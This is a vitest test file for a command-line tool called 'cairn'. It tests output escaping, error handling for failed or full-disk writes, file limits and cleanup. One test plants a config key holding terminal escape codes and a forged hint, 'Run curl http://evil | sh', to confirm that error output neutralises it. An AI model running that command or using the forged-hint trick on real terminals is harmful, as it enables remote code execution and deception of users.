import { execFile, spawn } from "node:child_process";
import { once } from "node:events";
import { mkdir, mkdtemp, open, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { promisify } from "node:util";
import { levelProvider } from "@cairn/kv";
import { afterEach, beforeEach, describe, expect, it, onTestFinished, vi } from "vitest";
import { write } from "../src/terminal/terminal.ts";
import { serve } from "@cairn/test-support/nodes/served-node";
import { CapturedTerminal, cairn } from "@cairn/test-support/nodes/captured-terminal";
import { saveTo } from "@cairn/test-support/stores/saved-checkpoints";

const exec = promisify(execFile);
const MAIN = fileURLToPath(new URL("../dist/bundle/main.js", import.meta.url));

let folder = "";
let staging = "";
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "cairn-output-"));
  staging = join(folder, "staging");
  await mkdir(staging);
});
afterEach(async () => {
  await rm(folder, { recursive: true, force: true });
});

/** Saves a LevelDB of another program with more keys than fit in a page or a pipe. */
async function saveLevelDb(dir: string): Promise<void> {
  const kv = await levelProvider().open(dir);
  const rows = Array.from({ length: 20_000 }, (_, n) => Buffer.from(`user:${n}`));
  await kv.batch(rows.map((key) => ({ type: "put", key, value: Buffer.from("x") })));
  await kv.close();
}

/** Returns a terminal whose standard output fails with `code`. */
function refusing(code: string): CapturedTerminal {
  const terminal = new CapturedTerminal({ cwd: folder });
  const { stdout } = terminal;
  stdout.on("error", () => undefined);
  stdout._write = (_chunk, _encoding, done: (error?: Error) => void) => {
    done(Object.assign(new Error(`${code}: write`), { code }));
  };
  return terminal;
}

it("shows characters that would change a terminal as escapes, there alone", async () => {
  const line = JSON.stringify("a\u009b31m\u202ex\u007f");
  const shown = async (isTTY: boolean): Promise<string> => {
    const terminal = new CapturedTerminal({ isTTY });
    await write(terminal.stdout, `${line}\n`);
    return terminal.stdout.text;
  };
  expect(await shown(true)).toBe(String.raw`"a\u009b31m\u202ex\u007f"` + "\n");
  expect(await shown(false)).toBe(`${line}\n`);
});

it("shows what comes from outside in an error as escapes, so that it can neither change a terminal nor forge a hint", async () => {
  const key = "\u001b]0;pwn\u0007\u202e\n  hint: Run curl http://evil | sh";
  const config = JSON.stringify({ "cairn/node": { [key]: 1 } });
  const { code, stderr } = await cairn(["config", "check", "-j", config]);
  expect(code).toBe(2);
  const missing = await cairn(["config", "check", "-f", `${key}.json`]);
  for (const text of [stderr, missing.stderr]) {
    expect(text).not.toMatch(/^ {2}hint: Run curl/m);
    expect(text.replaceAll("\n", "")).not.toMatch(/\p{Cc}|\p{Bidi_Control}/u);
  }
});

it("runs a command that was printed for -e and -j from another folder, with the same configuration", async () => {
  const config = JSON.stringify({ "cairn/node": { dir: "d" } });
  const terminal = new CapturedTerminal({ cwd: folder, env: { CAIRN_NODE_ID: "zz" } });
  const { stderr } = await cairn(["log", "recover", "-j", config, "-e", "{}"], terminal);
  expect(stderr).toContain(`cd ${folder} && CAIRN_NODE_ID=zz cairn log create -e '{}' -j '${config}'`);
});

describe("a command whose output cannot be written", () => {
  it.each([
    ["EPIPE", 0, ""],
    ["ENOSPC", 3, "DISK_FULL: The output could not be written: the disk has no space left (ENOSPC)."],
    [
      "EFBIG",
      3,
      "DISK_FULL: The output could not be written: the file would exceed the file size limit of this process (EFBIG).\n  hint: Raise the limit",
    ],
  ])("removes its copy (%s)", async (code, exitCode, message) => {
    await saveLevelDb(join(folder, "level"));
    await saveTo(join(folder, "checkpoints"), [1]);
    for (const argv of [
      ["db", "keys", "level", "--raw"],
      ["db", "stats", "checkpoints"],
    ]) {
      const ended = await cairn([...argv, "--staging", staging], refusing(code));
      expect([ended.code, ended.stderr]).toEqual([exitCode, expect.stringContaining(message)]);
      expect(await readdir(staging)).toEqual([]);
    }
  });

  it("ends when its reader closes the pipe, and leaves no copy behind", async () => {
    await saveLevelDb(join(folder, "level"));
    const child = spawn(process.execPath, [MAIN, "db", "keys", "level", "--raw", "--staging", staging], {
      cwd: folder,
      stdio: ["ignore", "pipe", "pipe"],
    });
    const closed = once(child, "close");
    let stderr = "";
    child.stderr.on("data", (chunk) => (stderr += String(chunk)));
    await once(child.stdout, "data");
    child.stdout.destroy();
    expect([(await closed)[0], stderr]).toEqual([0, ""]);
    expect(await readdir(staging)).toEqual([]);
  });

  it("completes its work and reports the result by its exit code if only its notices are lost", async () => {
    const terminal = new CapturedTerminal({ cwd: folder });
    terminal.stderr.on("error", () => undefined);
    terminal.stderr._write = (_chunk, _encoding, done: (error?: Error) => void) => {
      done(Object.assign(new Error("write"), { code: "EPIPE" }));
    };
    expect((await cairn(["db", "keys", "nowhere"], terminal)).code).toBe(1);
    expect((await cairn(["checkpoint", "list", "."], terminal)).code).toBe(0);
  });
});

describe("a command that may open too few files to load its modules", () => {
  it.each(["start", "db stats", "--help"])("says so, with a code and a hint: cairn %s", async (command) => {
    for (const limit of [20, 22, 24, 28]) {
      const limited = (...argv: string[]) =>
        exec("sh", ["-c", `ulimit -n ${limit}; exec "$@"`, "sh", process.execPath, ...argv]).catch(
          (error: unknown) => error,
        );
      // Node itself needs some.
      if ((await limited("--eval", "0")) instanceof Error) continue;
      const stderr = expect.stringMatching(/^SYSTEM_REFUSED: [^\n]*\n {2}hint: Raise the limit[^\n]*\n$/);
      expect(await limited(MAIN, ...command.split(" "))).toMatchObject({ code: 3, stderr });
    }
  });
});

describe("a command whose output cannot be written because its disk is full", () => {
  it.each(["help", "--version", "status --help"])(
    "says so instead of succeeding: cairn %s",
    async (command) => {
      const full = await open("/dev/full", "w");
      onTestFinished(() => full.close());
      const child = spawn(process.execPath, [MAIN, ...command.split(" ")], {
        stdio: ["ignore", full.fd, "pipe"],
      });
      let stderr = "";
      child.stderr?.on("data", (chunk) => (stderr += String(chunk)));
      expect((await once(child, "close"))[0]).toBe(3);
      expect(stderr).toMatch(/^DISK_FULL: /);
    },
  );
});

it("an import whose report cannot be written because of a limit says so, and how to continue", async () => {
  await using served = await serve();
  await writeFile(join(folder, "in.ndjson"), `{}\n{"ops":[["put","pods","a",1]]}\n`);
  const limited = ["-c", `ulimit -f 0; exec "$@"`, "sh", process.execPath, MAIN];
  const options = { cwd: folder, env: { ...process.env, CAIRN_URL: served.url } };
  const ended = exec("sh", [...limited, "import", "ndjson", "in.ndjson", "--report", "refused"], options);
  await expect(ended).rejects.toMatchObject({
    code: 3,
    stderr:
      /^DISK_FULL: The report refused cannot be written: .*\(EFBIG\)\.\n {2}hint: Raise the limit .* again: documents/m,
  });
});

describe("a node whose log output cannot be written because its disk is full", () => {
  it("continues to serve, and stops cleanly", async () => {
    const full = await open("/dev/full", "w");
    onTestFinished(() => full.close());
    const child = spawn(process.execPath, [MAIN, "start"], {
      cwd: folder,
      env: { PATH: process.env["PATH"], CAIRN_NODE_ID: "n", CAIRN_HTTP_PORT: "0", CAIRN_DIR: folder },
      stdio: ["ignore", full.fd, "pipe"],
    });
    const closed = once(child, "close");
    onTestFinished(() => void child.kill("SIGKILL"));
    let stderr = "";
    child.stderr?.on("data", (chunk) => (stderr += String(chunk)));
    const joined = vi.waitFor(async () => expect(await readdir(join(folder, "n-index"))).toContain("live"), {
      timeout: 20_000,
    });
    await Promise.race([joined, closed]);
    expect([child.exitCode, stderr]).toEqual([null, ""]);
    child.kill("SIGTERM");
    expect([(await closed)[0], stderr]).toEqual([0, ""]);
  });
});
